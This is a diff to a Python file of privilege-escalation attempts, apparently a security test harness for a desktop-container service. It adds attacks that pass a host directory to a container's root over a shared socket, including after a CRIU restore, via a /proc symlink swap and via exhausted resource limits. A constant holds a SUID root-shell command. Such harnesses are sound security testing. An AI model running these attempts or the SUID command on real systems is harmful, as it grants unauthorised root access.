@@ -22,7 +22,7 @@ import time
 from contextlib import suppress
 from pathlib import Path
 
-from escalation_tools import ATTEMPTS, Attacker, attempt, main, send_descriptor
+from escalation_tools import ATTEMPTS, Attacker, Farm, attempt, main, send_descriptor
 
 BOOK = ATTEMPTS
 SUID_COPY = "cp /bin/bash /tmp/rootsh && chmod 4755 /tmp/rootsh && ls -l /tmp/rootsh"
@@ -871,11 +871,8 @@ def directory_handed_to_root_inside(attacker: Attacker) -> None:
                 time.sleep(0.1)
 
 
-@attempt
-def directory_handed_through_a_shared_socket(attacker: Attacker) -> None:
-    """Hand a directory of the host to root of a desktop over a socket in the desktop's files, reached through a process of his own uid."""
-    farm = attacker.farm()
-    farm.desktop()
+def _hand_over_in_the_files(attacker: Attacker, farm: Farm) -> None:
+    """Hand a directory to root of the desktop `d1` over a socket in its files, reached through a process of the attacker's uid."""
     program = _taker("s.bind('/tmp/hand'); os.chmod('/tmp/hand', 0o777)", attacker)
     farm.as_root_inside("python3", "-c", program, detach=True)
     ids = f"os.setgroups([]); os.setresgid(*[{os.getgid()}] * 3); os.setresuid(*[{os.getuid()}] * 3)"
@@ -890,6 +887,51 @@ def directory_handed_through_a_shared_socket(attacker: Attacker) -> None:
             time.sleep(0.5)
             print("handed over through", pid)
             return
+
+
+@attempt
+def directory_handed_through_a_shared_socket(attacker: Attacker) -> None:
+    """Hand a directory of the host to root of a desktop over a socket in the desktop's files, reached through a process of his own uid."""
+    farm = attacker.farm()
+    farm.desktop()
+    _hand_over_in_the_files(attacker, farm)
+
+
+@attempt
+def directory_handed_to_a_restored_copy(attacker: Attacker) -> None:
+    """The same with a desktop that CRIU has restored."""
+    farm = attacker.farm()
+    farm.desktop()
+    farm.ask("checkpoint", desktop_id="d1", snapshot_id="s1")
+    farm.ask("restore", desktop_id="d1", snapshot_id="s1")
+    time.sleep(0.5)
+    _hand_over_in_the_files(attacker, farm)
+
+
+@attempt
+def ids_shared_for_a_directory_of_his(attacker: Attacker) -> None:
+    """Name images on a file system that cannot translate ids while the helper starts, so that desktops share the host's; then the same."""
+    top = attacker.home / "images"
+    top.symlink_to("/proc")
+    farm = attacker.farm(images=top)
+    top.unlink()
+    top.symlink_to(attacker.images)
+    farm.desktop()
+    _hand_over_in_the_files(attacker, farm)
+
+
+@attempt
+def ids_shared_for_want_of_processes(attacker: Attacker) -> None:
+    """Start the helper with few processes and little memory, so that its look for ranges of user ids fails; then the same."""
+    for limit, value in ((resource.RLIMIT_NPROC, 3), (resource.RLIMIT_NOFILE, 24), (resource.RLIMIT_AS, 1 << 28)):
+
+        def lower(limit: int = limit, value: int = value) -> None:
+            resource.setrlimit(limit, (value, value))
+
+        farm = attacker.farm(preexec_fn=lower)
+        if farm.reply.get("socket"):
+            farm.desktop()
+            _hand_over_in_the_files(attacker, farm)
 
 
 @attempt
